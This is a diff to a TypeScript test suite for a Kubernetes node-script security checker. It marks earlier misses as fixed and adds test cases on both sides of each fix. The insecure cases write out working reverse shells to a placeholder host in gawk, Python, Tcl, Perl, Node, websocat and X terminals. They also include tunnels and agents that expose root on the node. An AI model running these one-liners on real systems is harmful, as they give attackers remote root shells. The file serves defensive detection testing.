@@ -45,7 +45,7 @@ const SOCKET = /hostPath .*(D-Bus|runtime|writable)/;
 
 const insecure: NodeCase[] = [
     // --- Reverse shells ---
-    // MISS: GNU awk manual, "Command-Line Options" (`--source=program-text` is the long form of -e; the program text is the
+    // Was a MISS (fixed in round 61): GNU awk manual, "Command-Line Options" (`--source=program-text` is the long form of -e; the program text is the
     // option's value): the /inet/tcp coprocess shell refused with `-e TEXT` or as an operand is accepted when glued with
     // `=` (SOCKET_SHELL_CODE code /^(-e|--source)$/ only).
     devNodeCase(
@@ -54,9 +54,8 @@ const insecure: NodeCase[] = [
             `nohup gawk --source='BEGIN{s="/inet/tcp/0/bastion.example.com/4444";while((s|&getline c)>0){while((c|&getline o)>0)print o|&s;close(c)}}' &`,
         ]),
         RELAY,
-        true,
     ),
-    // MISS: Python docs, "Command line and environment" (`-` reads the program from standard input):
+    // Was a MISS (fixed in round 61): Python docs, "Command line and environment" (`-` reads the program from standard input):
     // socket.create_connection + os.dup2 + pty.spawn handed to bastion, the same code refused under -c, is not read from a
     // here-document.
     devNodeCase(
@@ -70,9 +69,8 @@ const insecure: NodeCase[] = [
             "PY",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: Tcl manual, socket(n) (`socket host port` opens a client channel) and exec(n): each line from bastion runs as a
+    // Was a MISS (fixed in round 61): Tcl manual, socket(n) (`socket host port` opens a client channel) and exec(n): each line from bastion runs as a
     // root command; tclsh is not in SOCKET_SHELL_CODE and the piped program is not read.
     devNodeCase(
         "echo 'set s [socket bastion 4444] ... exec sh' | tclsh (a Tcl reverse shell)",
@@ -80,7 +78,6 @@ const insecure: NodeCase[] = [
             `echo 'set s [socket bastion.example.com 4444]; while {1} { set c [gets $s]; puts $s [exec sh -c $c]; flush $s }' | nohup tclsh &`,
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "telnet bastion 4444 < /tmp/f | /bin/sh > /tmp/f (a telnet fifo reverse shell)",
@@ -97,7 +94,7 @@ const insecure: NodeCase[] = [
         ]),
         /program made at boot|serves or writes/,
     ),
-    // MISS: websocat README (`sh-c:` specifier: start the command line with `sh -c` and connect its stdio; the other
+    // Was a MISS (fixed in round 61): websocat README (`sh-c:` specifier: start the command line with `sh -c` and connect its stdio; the other
     // specifier a ws:// client): root bash joined to a websocket client of bastion; unreadRelays needs a node-local end and
     // dialledOutPeers does not read websocat's exec:/sh-c: specifiers.
     devNodeCase(
@@ -106,15 +103,13 @@ const insecure: NodeCase[] = [
             "nohup websocat -E ws://bastion.example.com:4444 sh-c:'/bin/bash -i' &",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: xterm(1) and X(7) (`-display host:N` connects to that X server; `-e program` runs it in the window): root's
+    // Was a MISS (fixed in round 61): xterm(1) and X(7) (`-display host:N` connects to that X server; `-e program` runs it in the window): root's
     // bash is driven from bastion's X display, a reverse shell the pack does not read.
     devNodeCase(
         "xterm -display bastion:1 (root's terminal on bastion's X server)",
         devNodeScript("dev-xterm-display-nodes", ["nohup xterm -display bastion.example.com:1 -e /bin/bash &"]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "ttyd -p 7681 -W bash (a writable root web terminal on every address)",
@@ -127,23 +122,21 @@ const insecure: NodeCase[] = [
         RELAY,
     ),
     // --- Tunnels ---
-    // MISS: tunnelmole README ("tmole 8000" prints a public https URL forwarding to localhost:8000): miniserve / made
+    // Was a MISS (fixed in round 61): tunnelmole README ("tmole 8000" prints a public https URL forwarding to localhost:8000): miniserve / made
     // public; the bare port operand of an unknown program with no TUNNEL_WORDS subcommand is not read.
     devNodeCase(
         "tmole 8000 (tunnelmole public URL) before miniserve /",
         devNodeScript("dev-tunnelmole-nodes", [LO_ROOT, "nohup tmole 8000 &"]),
         RELAY,
-        true,
     ),
-    // MISS: Packetriot docs ("pktriot http 8080" creates a tunnel with a public hostname to the local port): miniserve /
+    // Was a MISS (fixed in round 61): Packetriot docs ("pktriot http 8080" creates a tunnel with a public hostname to the local port): miniserve /
     // made public; `http` is not in TUNNEL_WORDS and pktriot is not in TUNNEL_SERVICES.
     devNodeCase(
         "pktriot http 8000 (Packetriot public URL) before miniserve /",
         devNodeScript("dev-pktriot-nodes", [LO_ROOT, "nohup pktriot http 8000 &"]),
         RELAY,
-        true,
     ),
-    // MISS: NPS docs (ehang-io/nps: `npc -server=ip:port -vkey=key` connects to nps; the tunnels and their client-side
+    // Was a MISS (fixed in round 61): NPS docs (ehang-io/nps: `npc -server=ip:port -vkey=key` connects to nps; the tunnels and their client-side
     // targets, 127.0.0.1:8000 included, are configured on the server's web UI): whoever administers nps reaches any
     // node-local end, metadata included; with no local end on the command line the unread-relay rule does not fire.
     devNodeCase(
@@ -153,7 +146,6 @@ const insecure: NodeCase[] = [
             "nohup npc -server=nps.example.com:8024 -vkey=EXAMPLEKEY -type=tcp &",
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "tailscale serve --bg 8000 (miniserve / served to the tailnet)",
@@ -182,7 +174,7 @@ const insecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: ssh(1) `-F configfile` (an alternative per-user configuration file) and ssh_config(5) RemoteForward: the -R
+    // Was a MISS (fixed in round 61): ssh(1) `-F configfile` (an alternative per-user configuration file) and ssh_config(5) RemoteForward: the -R
     // refused on the command line, in /etc/ssh/ssh_config.d and in /root/.ssh/config is accepted from the file -F names.
     devNodeCase(
         "ssh -F /etc/tunnel.conf bastion (RemoteForward in a -F file) before miniserve /",
@@ -196,14 +188,13 @@ const insecure: NodeCase[] = [
             "nohup ssh -F /etc/tunnel/ssh.conf -N bastion &",
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "ssh -R 1080 in another spelling: ssh -N -R 127.0.0.1:1080 (bind address, no destination: SOCKS)",
         devNodeScript("dev-ssh-R-bind-socks-nodes", ["nohup ssh -N -R 127.0.0.1:1080 ops@bastion.example.com &"]),
         RELAY,
     ),
-    // MISS: Dropbear README (the multi-call binary: `dropbearmulti dbclient ...` runs dbclient): the dbclient -R refused
+    // Was a MISS (fixed in round 61): Dropbear README (the multi-call binary: `dropbearmulti dbclient ...` runs dbclient): the dbclient -R refused
     // bare is accepted through dropbearmulti (not unwrapped as busybox applets are).
     devNodeCase(
         "dropbearmulti dbclient -N -R 8080:127.0.0.1:8000 bastion before miniserve /",
@@ -212,7 +203,6 @@ const insecure: NodeCase[] = [
             "nohup dropbearmulti dbclient -N -R 8080:127.0.0.1:8000 ops@bastion.example.com &",
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "sshpass -pPW ssh -N -R 8080:127.0.0.1:8000 bastion (password glued to -p) before miniserve /",
@@ -254,7 +244,7 @@ const insecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: crontab(1) (`crontab file`, `-` meaning standard input, installs root's crontab): the @reboot ssh -R refused in
+    // Was a MISS (fixed in round 61): crontab(1) (`crontab file`, `-` meaning standard input, installs root's crontab): the @reboot ssh -R refused in
     // /etc/cron.d is accepted piped to `crontab -`.
     devNodeCase(
         "echo '@reboot ssh -R ...' | crontab - (root's crontab) before miniserve /",
@@ -263,7 +253,6 @@ const insecure: NodeCase[] = [
             "echo '@reboot ssh -N -R 8080:127.0.0.1:8000 ops@bastion.example.com' | crontab -",
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "systemd-run --on-active=30s ssh -N -R ... (a transient timer) before miniserve /",
@@ -282,7 +271,7 @@ const insecure: NodeCase[] = [
         RELAY,
     ),
     // --- Remote-access and configuration-management agents beyond the table ---
-    // MISS: Cinc project docs (cinc.sh: Cinc Client is the community build of Chef Infra Client, the same CLI, `-S/--server
+    // Was a MISS (fixed in round 61): Cinc project docs (cinc.sh: Cinc Client is the community build of Chef Infra Client, the same CLI, `-S/--server
     // URL`): the Chef server's cookbooks run as root, as chef-client (refused); REMOTE_AGENTS names only chef-client.
     devNodeCase(
         "cinc-client -S https://chef.example.com (Cinc, the Chef client by another name)",
@@ -290,9 +279,8 @@ const insecure: NodeCase[] = [
             "cinc-client -S https://chef.example.com/organizations/ops -N eks-node",
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: AWS Systems Manager user guide, "Install SSM Agent on hybrid Linux nodes" (`sudo ./ssm-setup-cli -register
+    // Was a MISS (fixed in round 61): AWS Systems Manager user guide, "Install SSM Agent on hybrid Linux nodes" (`sudo ./ssm-setup-cli -register
     // -activation-code ... -activation-id ... -region ...`): the node is registered to the activation's account (Run
     // Command and Session Manager as root), as `amazon-ssm-agent -register` (refused).
     devNodeCase(
@@ -301,9 +289,8 @@ const insecure: NodeCase[] = [
             "/opt/ssm/ssm-setup-cli -register -activation-code EXAMPLECODE -activation-id 11111111-2222-3333-4444-555555555555 -region us-east-1",
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: Puppet docs, "Run Puppet agent as a service" (`puppet resource service puppet ensure=running enable=true`
+    // Was a MISS (fixed in round 61): Puppet docs, "Run Puppet agent as a service" (`puppet resource service puppet ensure=running enable=true`
     // starts the agent service): the Puppet server's catalog runs as root, as `puppet agent` and the puppet unit (refused).
     devNodeCase(
         "puppet resource service puppet ensure=running (starts the Puppet agent)",
@@ -311,35 +298,31 @@ const insecure: NodeCase[] = [
             "/opt/puppetlabs/bin/puppet resource service puppet ensure=running enable=true",
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: Puppet Enterprise docs, "PXP agent" (the orchestrator's agent: tasks and plans run on the node as root for PE
+    // Was a MISS (fixed in round 61): Puppet Enterprise docs, "PXP agent" (the orchestrator's agent: tasks and plans run on the node as root for PE
     // orchestrator users): remote root on the node; REMOTE_AGENT_UNITS lacks pxp-agent.
     devNodeCase(
         "systemctl enable --now pxp-agent (Puppet orchestrator tasks as root)",
         devNodeScript("dev-pxp-agent-nodes", ["systemctl enable --now pxp-agent"]),
         REMOTE,
-        true,
     ),
-    // MISS: Choria docs (choria.io: choria-server runs MCollective-style agents, shell and package included, for RPC
+    // Was a MISS (fixed in round 61): Choria docs (choria.io: choria-server runs MCollective-style agents, shell and package included, for RPC
     // requests from the broker's clients): remote root as mcollective (refused); the unit name is not in
     // REMOTE_AGENT_UNITS.
     devNodeCase(
         "systemctl enable --now choria-server (Choria, MCollective's successor)",
         devNodeScript("dev-choria-nodes", ["systemctl enable --now choria-server"]),
         REMOTE,
-        true,
     ),
-    // MISS: RPort docs (the rport client: the server runs remote commands and scripts on the client and opens tunnels to
+    // Was a MISS (fixed in round 61): RPort docs (the rport client: the server runs remote commands and scripts on the client and opens tunnels to
     // its local ports, 127.0.0.1 included): remote root and node-local ends for the server's users; not in REMOTE_AGENTS or
     // REMOTE_AGENT_UNITS.
     devNodeCase(
         "systemctl enable --now rport (RPort client: the server runs commands and tunnels to node-local ports)",
         devNodeScript("dev-rport-nodes", ["systemctl enable --now rport"]),
         REMOTE,
-        true,
     ),
-    // MISS: NetBird CLI docs (the `netbird up` flags can be set by NB_-prefixed environment variables, NB_SETUP_KEY,
+    // Was a MISS (fixed in round 61): NetBird CLI docs (the `netbird up` flags can be set by NB_-prefixed environment variables, NB_SETUP_KEY,
     // NB_ALLOW_SERVER_SSH): the SSH server refused as --allow-server-ssh is accepted by environment.
     devNodeCase(
         "NB_ALLOW_SERVER_SSH=true netbird up (NetBird SSH by environment)",
@@ -348,7 +331,6 @@ const insecure: NodeCase[] = [
             "NB_ALLOW_SERVER_SSH=true netbird up --setup-key EXAMPLE-SETUP-KEY",
         ]),
         REMOTE,
-        true,
     ),
     devNodeCase(
         "systemctl enable --now teleport.service after teleport node configure",
@@ -365,6 +347,105 @@ const insecure: NodeCase[] = [
             "systemctl start salt-minion.service",
         ]),
         REMOTE,
+    ),
+    // --- Neighbours of the round-61 fixes (insecure) ---
+    devNodeCase(
+        "perl <<EOF (IO::Socket + exec sh on perl's standard input, no `-`)",
+        devNodeScript("dev-perl-stdin-revshell-nodes", [
+            "nohup perl <<'PL' &",
+            "use IO::Socket::INET;",
+            "my $s = IO::Socket::INET->new(PeerAddr => 'bastion.example.com:4444');",
+            "open(STDIN, '<&', $s); open(STDOUT, '>&', $s); exec('/bin/sh -i');",
+            "PL",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "echo ... | node - (net + child_process reverse shell piped to node)",
+        devNodeScript("dev-node-stdin-revshell-nodes", [
+            `echo 'const s=require("net").connect(4444,"bastion.example.com");const p=require("child_process").spawn("/bin/sh");s.pipe(p.stdin);p.stdout.pipe(s)' | nohup node - &`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "tclsh <<EOF (a Tcl reverse shell in a here-document)",
+        devNodeScript("dev-tcl-heredoc-revshell-nodes", [
+            "nohup tclsh <<'TCL' &",
+            "set s [socket bastion.example.com 4444]",
+            "while {1} { puts $s [exec sh -c [gets $s]]; flush $s }",
+            "TCL",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "DISPLAY=bastion.example.com:0 urxvt (root's terminal on another X server by environment)",
+        devNodeScript("dev-urxvt-display-env-nodes", ["DISPLAY=bastion.example.com:0 nohup urxvt &"]),
+        RELAY,
+    ),
+    devNodeCase(
+        "websocat wss://bastion:443 exec:/bin/bash --exec-args -i (exec: specifier)",
+        devNodeScript("dev-websocat-exec-nodes", [
+            "nohup websocat wss://bastion.example.com:443/ exec:/bin/bash --exec-args -i &",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "pktriot start (Packetriot's configured tunnels) before miniserve /",
+        devNodeScript("dev-pktriot-start-nodes", [LO_ROOT, "nohup pktriot start &"]),
+        RELAY,
+    ),
+    devNodeCase(
+        "ssh -F /etc/tunnel/ssh.conf with a ProxyCommand (a -F file running a command)",
+        devNodeScript("dev-ssh-F-proxycommand-nodes", [
+            ...heredocFile("/etc/tunnel/ssh.conf", [
+                "Host bastion",
+                "    HostName bastion.example.com",
+                "    ProxyCommand /bin/sh -c 'nc %h %p'",
+            ]),
+            "ssh -F /etc/tunnel/ssh.conf bastion true",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "crontab - <<EOF @reboot ssh -R ... EOF (here-document) before miniserve /",
+        devNodeScript("dev-crontab-heredoc-nodes", [
+            LO_ROOT,
+            "crontab - <<'CRON'",
+            "@reboot ssh -N -R 8080:127.0.0.1:8000 ops@bastion.example.com",
+            "CRON",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "systemctl enable --now cinc-client (the Cinc client unit)",
+        devNodeScript("dev-cinc-unit-nodes", ["systemctl enable --now cinc-client"]),
+        REMOTE,
+    ),
+    devNodeCase(
+        "choria-server run --config /etc/choria/server.conf (the command, not the unit)",
+        devNodeScript("dev-choria-command-nodes", ["nohup choria-server run --config /etc/choria/server.conf &"]),
+        REMOTE,
+    ),
+    devNodeCase(
+        "NB_ALLOW_SERVER_SSH=true exported, then netbird up",
+        devNodeScript("dev-netbird-export-ssh-nodes", [
+            "export NB_ALLOW_SERVER_SSH=true",
+            "netbird up --setup-key EXAMPLE-SETUP-KEY",
+        ]),
+        REMOTE,
+    ),
+    devNodeCase(
+        "ghostunnel server --listen 0.0.0.0:8443 --target localhost:8000 (miniserve / served to every address)",
+        devNodeScript("dev-ghostunnel-server-nodes", [
+            LO_ROOT,
+            "nohup ghostunnel server --listen 0.0.0.0:8443 --target localhost:8000 --keystore /etc/ghostunnel/server.p12 --allow-all &",
+        ]),
+        /beyond loopback|every address|relay|forward/,
+    ),
+    devNodeCase(
+        "relayctl share http://127.0.0.1:8000 (TUNNEL_WORDS still read for an unknown program) before miniserve /",
+        devNodeScript("dev-unknown-share-nodes", [LO_ROOT, "nohup relayctl share http://127.0.0.1:8000 &"]),
+        RELAY,
     ),
     // --- Root-power sockets by hostPath ---
     devNodeCase(
@@ -402,7 +483,7 @@ const secure: NodeCase[] = [
             "stunnel /etc/stunnel/redis.conf",
         ]),
     ),
-    // MISS: ghostunnel README ("client mode accepts (insecure) connections through a TCP or UNIX domain socket and proxies
+    // Was a MISS (fixed in round 61): ghostunnel README ("client mode accepts (insecure) connections through a TCP or UNIX domain socket and proxies
     // them to a TLS-secured service"): the listener is on localhost and connections go out to --target, which cannot reach
     // the node's loopback, as with the stunnel client (accepted); unreadRelays reads --listen as a node-local end relayed
     // to --target.
@@ -412,7 +493,6 @@ const secure: NodeCase[] = [
             "nohup ghostunnel client --listen localhost:8443 --target backend.example.com:443 --keystore /etc/ghostunnel/client.p12 --cacert /etc/ghostunnel/ca.pem &",
         ]),
         undefined,
-        true,
     ),
     devNodeCase(
         "wstunnel client -L tcp://127.0.0.1:5432:db.internal:5432 wss://tunnel:443 (a local forward) beside miniserve /",
@@ -458,7 +538,7 @@ const secure: NodeCase[] = [
             "nerdctl run -d --name node-exporter -p 127.0.0.1:9100:9100 registry.example.com:5000/node-exporter:1.8.2",
         ]),
     ),
-    // MISS: npm-publish(1) (`npm publish --registry URL` uploads a package to that registry; no tunnel): TUNNEL_WORDS reads
+    // Was a MISS (fixed in round 61): npm-publish(1) (`npm publish --registry URL` uploads a package to that registry; no tunnel): TUNNEL_WORDS reads
     // the `publish` subcommand as a tunnel service and the loopback --registry URL as its end (borderline realism on a
     // node, but the fail-closed word list refuses any `publish`/`share`/`host` subcommand naming a loopback URL).
     devNodeCase(
@@ -468,7 +548,6 @@ const secure: NodeCase[] = [
             "cd /opt/pkg && npm publish --registry http://127.0.0.1:4873/",
         ]),
         undefined,
-        true,
     ),
     devNodeCase(
         "fluent-bit -i tail -o forward -p host=logs.example.com -p port=24224 (log shipping)",
@@ -506,6 +585,82 @@ const secure: NodeCase[] = [
     ),
     devNodeCase("hostPath /var/log read-only as non-root (log collector)", r =>
         hostPathDaemonSet(r, "log-reader", "tools", "/var/log/journal", NON_ROOT, true, "Directory"),
+    ),
+    // --- Neighbours of the round-61 fixes (secure) ---
+    devNodeCase(
+        "python3 - <<EOF printing socket.gethostname() (stdin code without a shell)",
+        devNodeScript("dev-python-stdin-hostname-nodes", [
+            "python3 - <<'PY' > /tmp/h",
+            "import socket",
+            "print(socket.gethostname())",
+            "PY",
+        ]),
+    ),
+    devNodeCase(
+        "echo 'puts [info hostname]' | tclsh (Tcl without a socket)",
+        devNodeScript("dev-tcl-hostname-nodes", ["echo 'puts [info hostname]' | tclsh > /tmp/h"]),
+    ),
+    devNodeCase(
+        "gawk --source='BEGIN{print 1}' (glued program text, no socket)",
+        devNodeScript("dev-gawk-source-local-nodes", ["gawk --source='BEGIN{print 1}' > /tmp/one"]),
+    ),
+    devNodeCase(
+        "xterm -display :99 -e htop (a local X display)",
+        devNodeScript("dev-xterm-local-display-nodes", ["nohup xterm -display :99 -e htop &"]),
+    ),
+    devNodeCase(
+        "websocat -1 wss://stream.example.com/feed > /tmp/feed (a websocket client, no command)",
+        devNodeScript("dev-websocat-client-nodes", ["websocat -1 wss://stream.example.com/feed > /tmp/feed"]),
+    ),
+    devNodeCase(
+        "ssh -F /etc/backup/ssh.conf (host names, a key and a loopback LocalForward only)",
+        devNodeScript("dev-ssh-F-local-nodes", [
+            ...heredocFile("/etc/backup/ssh.conf", [
+                "Host backup",
+                "    HostName backup.example.com",
+                "    User backup",
+                "    IdentityFile /root/.ssh/backup_ed25519",
+                "    LocalForward 127.0.0.1:15432 db.internal:5432",
+            ]),
+            "nohup ssh -F /etc/backup/ssh.conf -N backup &",
+        ]),
+    ),
+    devNodeCase(
+        "dropbearmulti dbclient -N -L 127.0.0.1:5432:db.internal:5432 bastion (a local forward)",
+        devNodeScript("dev-dropbearmulti-local-nodes", [
+            "nohup dropbearmulti dbclient -N -L 127.0.0.1:5432:db.internal:5432 ops@bastion.example.com &",
+        ]),
+    ),
+    devNodeCase(
+        "echo '*/5 * * * * /usr/bin/logger heartbeat' | crontab - (a harmless root crontab)",
+        devNodeScript("dev-crontab-stdin-local-nodes", ["echo '*/5 * * * * /usr/bin/logger heartbeat' | crontab -"]),
+    ),
+    devNodeCase(
+        "puppet resource service puppet ensure=stopped enable=false (stops the agent)",
+        devNodeScript("dev-puppet-resource-stop-nodes", [
+            "/opt/puppetlabs/bin/puppet resource service puppet ensure=stopped enable=false",
+        ]),
+    ),
+    devNodeCase(
+        "NB_ALLOW_SERVER_SSH=false netbird up (NetBird without its SSH server)",
+        devNodeScript("dev-netbird-env-nossh-nodes", [
+            "systemctl enable --now netbird",
+            "NB_ALLOW_SERVER_SSH=false netbird up --setup-key EXAMPLE-SETUP-KEY",
+        ]),
+    ),
+    devNodeCase(
+        "twine upload --repository-url http://127.0.0.1:8080/ beside miniserve / (a package index on loopback)",
+        devNodeScript("dev-twine-upload-lo-nodes", [
+            LO_ROOT,
+            "cd /opt/pkg && twine upload --repository-url http://127.0.0.1:8080/ dist/*",
+        ]),
+    ),
+    devNodeCase(
+        "pip install --index-url http://127.0.0.1:3141/simple --extra-index-url https://pypi.example.com/simple beside miniserve /",
+        devNodeScript("dev-pip-index-lo-nodes", [
+            LO_ROOT,
+            "pip3 install --index-url http://127.0.0.1:3141/simple --extra-index-url https://pypi.example.com/simple requests",
+        ]),
     ),
 ];
 
